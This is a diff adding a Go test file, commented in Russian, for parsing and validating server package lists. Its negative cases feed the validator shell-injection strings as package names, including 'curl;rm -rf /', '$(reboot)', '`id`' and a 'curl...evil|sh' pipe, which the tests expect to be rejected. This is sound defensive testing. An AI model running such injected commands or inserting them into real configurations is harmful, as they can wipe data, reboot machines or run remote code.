@@ -0,0 +1,108 @@
+package config
+
+import (
+	"os"
+	"path/filepath"
+	"reflect"
+	"strings"
+	"testing"
+)
+
+func TestParsePackageList(t *testing.T) {
+	input := `# пакеты сервера
+vim
+curl   # клиент HTTP
+
+git
+vim
+
+web:
+nginx
+Database:
+postgresql
+libc6:i386
+`
+	lists, err := ParsePackageList(strings.NewReader(input))
+	if err != nil {
+		t.Fatal(err)
+	}
+	want := map[string][]string{
+		"basic":    {"vim", "curl", "git"},
+		"web":      {"nginx"},
+		"database": {"postgresql", "libc6:i386"},
+	}
+	if !reflect.DeepEqual(lists, want) {
+		t.Fatalf("ParsePackageList = %v, ожидалось %v", lists, want)
+	}
+}
+
+func TestParsePackageListErrors(t *testing.T) {
+	tests := []struct {
+		name  string
+		input string
+		want  string
+	}{
+		{"неизвестная категория", "vim\ngames:\ntetris\n", "строка 2: неизвестная категория games"},
+		{"два имени в строке", "vim curl\n", "строка 1: ожидается одно имя пакета"},
+		{"метасимволы оболочки", "vim\nvim;curl${IFS}evil|sh\n", "строка 2: некорректное имя пакета"},
+		{"подстановка команды", "$(reboot)\n", "строка 1: некорректное имя пакета"},
+		{"опция вместо имени", "--allow-unauthenticated\n", "строка 1: некорректное имя пакета"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			_, err := ParsePackageList(strings.NewReader(tt.input))
+			if err == nil || !strings.Contains(err.Error(), tt.want) {
+				t.Fatalf("ошибка %v, ожидалось %q", err, tt.want)
+			}
+		})
+	}
+}
+
+func TestLoadPackageListMergesIntoConfig(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "packages.txt")
+	if err := os.WriteFile(path, []byte("htop\nweb:\nnginx\n"), 0600); err != nil {
+		t.Fatal(err)
+	}
+	lists, err := LoadPackageList(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	packages := PackagesConfig{Basic: PackageList{{Name: "htop", Reason: "мониторинг"}}}
+	if err := packages.MergePackageList(lists); err != nil {
+		t.Fatal(err)
+	}
+	if want := (PackageList{{Name: "htop", Reason: "мониторинг"}}); !reflect.DeepEqual(packages.Basic, want) {
+		t.Errorf("basic = %v, ожидалось %v", packages.Basic, want)
+	}
+	if got := packages.Web.Names(); !reflect.DeepEqual(got, []string{"nginx"}) {
+		t.Errorf("web = %v", got)
+	}
+}
+
+func TestValidatePackageName(t *testing.T) {
+	for _, name := range []string{"vim", "g++", "libc6:i386", "python3.12", "community/htop", "nginx@edge", "lib_x-1"} {
+		if err := ValidatePackageName(name); err != nil {
+			t.Errorf("ValidatePackageName(%q) = %v", name, err)
+		}
+	}
+	for _, name := range []string{"", "-y", "vim curl", "vim;reboot", "a|b", "$(id)", "`id`", "a&&b", "a>b", "'vim'"} {
+		if err := ValidatePackageName(name); err == nil {
+			t.Errorf("ValidatePackageName(%q) принял некорректное имя", name)
+		}
+	}
+}
+
+func TestValidateConfigRejectsUnsafePackageNames(t *testing.T) {
+	cfg := DefaultConfig()
+	cfg.Packages.Web = NewPackageList("nginx", "curl;rm -rf /")
+	if err := ValidateConfig(cfg); err == nil {
+		t.Fatal("ValidateConfig принял имя пакета с метасимволами")
+	}
+
+	cfg = DefaultConfig()
+	cfg.Packages.Exclude = map[string][]string{"basic": {"zsh|sh"}}
+	if err := ValidateConfig(cfg); err == nil {
+		t.Fatal("ValidateConfig принял исключение с метасимволами")
+	}
+}